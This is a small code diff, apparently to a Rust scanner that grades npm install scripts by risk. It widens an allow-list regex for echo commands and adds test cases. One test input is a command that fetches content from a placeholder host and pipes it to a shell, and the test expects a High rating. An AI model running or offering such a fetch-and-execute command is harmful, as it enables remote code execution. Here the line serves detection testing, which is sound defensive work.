@@ -42,6 +42,7 @@ static ORDINARY: LazyLock<Option<Regex>> = LazyLock::new(|| {
         r"exit 0",
         r"true",
         r"echo( [^|&;`$<>\n]*)?",
+        r#"echo "[^"`$\\\n]*""#,
         r"(npm|yarn|pnpm) (run )?[\w:-]+{options}",
         r"node( --harmony| --no-warnings)* [\w./][\w./-]*",
     ];
@@ -185,6 +186,8 @@ mod tests {
             ("is-ci || husky", Severity::Info),
             ("patch-package && npm run build", Severity::Info),
             ("echo \"thank you\"", Severity::Info),
+            ("echo \"https://a.example/x & more\"", Severity::Info),
+            ("echo \"$(curl x.example)\" | sh", Severity::High),
             ("node --harmony ./postinstall.js", Severity::Info),
             (
                 "node -e \"console.log('\\u001b[35mthanks\\u001b[0m (https://a.example)')\"",
